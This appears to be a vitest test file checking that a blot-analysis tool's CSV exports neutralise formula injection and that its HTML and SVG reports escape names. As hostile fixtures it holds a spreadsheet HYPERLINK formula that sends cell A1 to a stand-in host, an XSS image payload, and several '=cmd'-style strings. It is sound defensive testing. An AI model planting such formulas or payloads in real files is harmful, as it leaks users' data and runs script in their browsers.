/**
 * CSV formula injection (OWASP "CSV injection"): text cells that came from the input and start
 * with =, +, -, @, tab or carriage return are written with a leading apostrophe, so a spreadsheet
 * shows them as text instead of running them; numbers (a log2 ratio of -1.5) stay plain numbers.
 * Names that reach report.html and the SVG charts are escaped there.
 */
import Papa from 'papaparse';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyze } from '../../src/analyze.js';
import { comparisonsCsv, neutraliseText, normalizedCsv } from '../../src/report/csvOutput.js';
import { BASE_SPEC, experimentRows, LONG_HEADER, type LongRow } from './experiment.js';
import { runInTemp } from './harness.js';

const HTML_PAYLOAD = '<img src=x onerror=alert(1)>';
const HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"click")';

/** The base experiment with every name of the input turned into a formula-looking text. */
function hostileRows(): LongRow[] {
  const lineName: Record<string, string> = { KM12: HYPERLINK, 'KM12-LR': `@KM12-LR${HTML_PAYLOAD}` };
  return experimentRows(BASE_SPEC).map((r) => ({
    ...r,
    blot: `=${r.blot}`,
    lane: `+${r.lane}`,
    line: lineName[r.line]!,
    treatment: r.treatment === 'DMSO' ? r.treatment : `-larotrectinib ${HTML_PAYLOAD}`,
    replicate: `-${r.replicate}`,
    target: r.target === 'pMET' ? '=pMET' : r.target === 'MET' ? '@MET' : r.target,
  }));
}

const quoteCell = (c: string): string => (/[",\n\r]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c);
const toCsv = (rows: readonly LongRow[]): string => `${[LONG_HEADER.join(','), ...rows.map((r) => LONG_HEADER.map((c) => quoteCell(r[c])).join(','))].join('\n')}\n`;

const parseCsv = (text: string): string[][] => Papa.parse<string[]>(text.trimEnd(), { header: false }).data;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

describe('exported CSV text cells are neutralised against formula injection', () => {
  it('neutraliseText(text) prefixes =, +, -, @, tab and CR with an apostrophe and leaves other text alone', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', HYPERLINK]) expect(neutraliseText(text)).toBe(`'${text}`);
    for (const text of ['KM12', ' =1', "'=1", '1-2', 'p-ERK', '']) expect(neutraliseText(text)).toBe(text);
  });

  it('names from the input come out prefixed in normalized.csv and comparisons.csv; numbers stay numbers', async () => {
    const r = await runInTemp({ 'hostile.csv': toCsv(hostileRows()) }, (dir) => ['analyze', join(dir, 'hostile.csv'), '--out', join(dir, 'out')]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    for (const name of ['normalized.csv', 'comparisons.csv']) {
      const rows = parseCsv(r.outputs.get(name)!.toString('utf8'));
      const header = rows[0]!;
      for (const row of rows.slice(1)) {
        row.forEach((cell, i) => {
          // No cell a spreadsheet would run: a formula start only as a negative number.
          expect(cell, `${name} ${header[i]}`).not.toMatch(/^[=+@\t\r]/);
          if (cell.startsWith('-')) expect(cell, `${name} ${header[i]}`).toMatch(NUMBER);
        });
      }
      const column = (c: string) => rows.slice(1).map((row) => row[header.indexOf(c)]!);
      expect(new Set(column('line'))).toEqual(name === 'normalized.csv' ? new Set([`'${HYPERLINK}`, `'@KM12-LR${HTML_PAYLOAD}`]) : new Set([`'@KM12-LR${HTML_PAYLOAD}`]));
      expect(column('treatment')).toContain(`'-larotrectinib ${HTML_PAYLOAD}`);
      expect(column('target').some((t) => t.startsWith("'=") || t.startsWith("'@"))).toBe(true);
      if (name === 'normalized.csv') {
        expect(new Set(column('replicate'))).toEqual(new Set(["'-1", "'-2", "'-3"]));
        expect(new Set(column('membrane'))).toEqual(new Set(["'=M1", "'=M2"]));
        expect(column('lane').every((l) => l.startsWith("'+"))).toBe(true);
      } else {
        // A negative log2 ratio is a number, written plainly.
        const log2 = column('resistantVsSensitive_log2Ratio').filter((c) => c !== '').map(Number);
        expect(log2.every(Number.isFinite)).toBe(true);
        expect(column('resistantVsSensitive_log2Ratio').some((c) => /^-\d/.test(c))).toBe(true);
      }
    }
    // The same names reach the HTML report and the SVG charts escaped, never as markup.
    for (const [name, bytes] of r.outputs) {
      if (name.endsWith('.html') || name.endsWith('.svg')) expect(bytes.toString('utf8'), name).not.toContain(HTML_PAYLOAD);
    }
  });

  it('tab and carriage return, which the reader trims from cells, are neutralised by the writer too', () => {
    const results = analyze([{ name: 'blot.csv', bytes: new Uint8Array(Buffer.from(toCsv(experimentRows(BASE_SPEC)))) }]);
    results.lanes[0]!.line = '\t=cmd';
    results.lanes[1]!.treatment = '\r=cmd';
    results.comparisons[0]!.target = '\t@SUM(A1)';
    const normalized = parseCsv(normalizedCsv(results));
    expect(normalized[1]![0]).toBe("'\t=cmd");
    expect(normalized[2]![2]).toBe("'\r=cmd");
    expect(parseCsv(comparisonsCsv(results))[1]![5]).toBe("'\t@SUM(A1)");
  });
});
